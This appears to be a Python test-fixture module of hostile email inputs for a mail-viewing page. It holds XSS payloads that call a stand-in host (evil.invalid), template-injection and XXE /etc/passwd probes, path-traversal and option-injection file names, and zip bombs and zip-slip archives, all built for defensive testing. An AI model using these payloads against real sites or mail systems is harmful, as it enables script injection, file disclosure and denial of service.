"""Mail that tries to run a script, load something or break the page, for the tests of the page."""

import gzip

from ..sources.helpers import zipped

__all__ = ["NAMES", "PAYLOADS", "archives", "broken", "many_hops", "message", "one_line"]

SCRIPT = "window.executed=1;alert(1);fetch('https://evil.invalid/')"
PAYLOADS = (
    f"</script><script>{SCRIPT}</script>",
    f"</textarea></title></style></pre></template><script>{SCRIPT}</script>",
    f"<img src=https://evil.invalid/i onerror={SCRIPT}>",
    f"<svg onload={SCRIPT}><style>*{{display:none}}</style></svg>",
    f"<svg><a xlink:href=javascript:{SCRIPT}><set attributeName=href to=javascript:{SCRIPT}></a></svg>",
    f"<iframe srcdoc='<script>{SCRIPT}</script>'></iframe><base href=https://evil.invalid/>",
    f"<form action=https://evil.invalid/><input name=x autofocus onfocus={SCRIPT}></form>",
    "<link rel=stylesheet href=https://evil.invalid/c><meta http-equiv=refresh content=0;url=https://evil.invalid/>",
    f"javascript:{SCRIPT}",
    f"data:text/html,<script>{SCRIPT}</script>",
    '" onmouseover="' + SCRIPT + '" style="position:fixed;inset:0" x="',
    f"' autofocus tabindex=0 onfocus='{SCRIPT}",
    "{{7*7}}${7*7}<%=7*7%>#{7*7}{%print(7*7)%}",
    "*/}</style>@import 'https://evil.invalid/c';body{background:url(https://evil.invalid/b)}",
    "\x00\x01\x1b[31m\x07\x7f\x9b",
    "\u202egnp.exe\u2066\u200b\ufeff\u2028\u2029",
    "\ud800\udce9\udfff",
    "--><!--]]><![CDATA[<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;&lt;script&gt;",
    "constructor __proto__ toString hasOwnProperty",
)
"""Texts that run a script or load something where they are taken for HTML, CSS, a link or a template."""

NAMES = (
    f"<img src=x onerror={SCRIPT.replace('/', '')}>.eml",
    "../../../etc/passwd.eml",
    "..",
    "-",
    "--help.eml",
    "a\u202elme.exe.eml",
    "__proto__",
    "{{7*7}}.eml",
    "CON.eml",
    "x" * 300 + ".eml",
    "new\nline.eml",
    "Grüße 日本 \ud800.eml",
)
"""Names of files, each of which a system allows."""


def message(payload: str) -> str:
    """A message of two hops, whose fields have the payload wherever the program shows text of a field."""
    own = payload.replace("\n", " ").replace("\r", " ")
    return "".join(
        (
            f"Received: from {own} ([203.0.113.9]) by {own}.example ({own}) with Microsoft SMTP Server ({own})\n",
            f" id 15.1.2507.39 via Frontend Transport; Mon, 3 Jun 2024 18:02:50 +0000 ({own})\n",
            f'Received: from "{own}" (HELO {own}) by mail.example with {own} id {own} for <{own}>;\n',
            " Mon, 3 Jun 2024 18:02:33 +0000\n",
            f"Authentication-Results: {own}; spf=fail ({own}) smtp.mailfrom={own}; dkim=fail header.d={own}\n",
            f"Subject: {own}\n",
            f'From: "{own}" <{own}@example.com>\n',
            f"To: {own}\n",
            f"Date: {own}\n",
            f"Message-ID: <{own}>\n",
            f"X-MS-Exchange-Organization-OriginalArrivalTime: {own}\n",
            f"X-MS-Exchange-Organization-Network-Message-Id: {own}\n",
            f"X-{own}: {own}\n",
            f"\n{payload}\n",
        )
    )


def many_hops(count: int) -> str:
    """A message with this number of Received fields, one minute after one another."""
    hops = (
        f"Received: from h{number}.example by h{number + 1}.example with ESMTP;"
        f" Mon, {3 + number // 1440} Jun 2024 {number // 60 % 24:02}:{number % 60:02}:00 +0000\n"
        for number in reversed(range(count))
    )
    return "".join(hops) + "Subject: a loop\n\n"


def one_line(size: int) -> str:
    """A message, one field of which is a line of this length."""
    return f"Received: from a.example by b.example; Mon, 3 Jun 2024 12:00:00 +0000\nX-Long: {'<x' * (size // 2)}\n\n"


def broken() -> bytes:
    """A message whose encodings are all wrong."""
    return (
        b"Received: from \xff\xfe\xc3\x28.example by \xed\xa0\x80.example; Mon, 3 Jun 2024 12:00:00 +0000\r\n"
        b"Subject: =?utf-7?B?//4=?= =?x-none?Q?=ZZ=3Cscript=3E?= =?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=\r\n"
        b"From: =?utf-8?Q?=00=1B=E2=80=AE?= <a@b.example>\r\n"
        b"Content-Type: multipart/mixed; boundary=\xff\xff; charset=\x00\r\n\r\n\xff\x00\xfe"
    )


def archives(mail: bytes) -> dict[str, bytes]:
    """Archives by name: with a huge file, in one another, with names of folders above, damaged, and empty."""
    nested = zipped({"mail.eml": mail})
    for depth in range(30):
        nested = zipped({f"{depth}.zip": nested})
    bomb = zipped({"zero.eml": bytes(80_000_000), "mail.eml": mail})
    return {
        "bomb.zip": bomb,
        "bomb.gz": gzip.compress(bytes(80_000_000)),
        "nested.zip": nested,
        "above.zip": zipped({"../../above.eml": mail, "/etc/passwd.eml": mail, "C:\\x.eml": mail}),
        "damaged.zip": zipped({"mail.eml": mail})[:-30],
        "empty.zip": zipped({}),
        "empty.eml": b"",
        "no-mail.gz": b"\x1f\x8b" + bytes(50),
    }
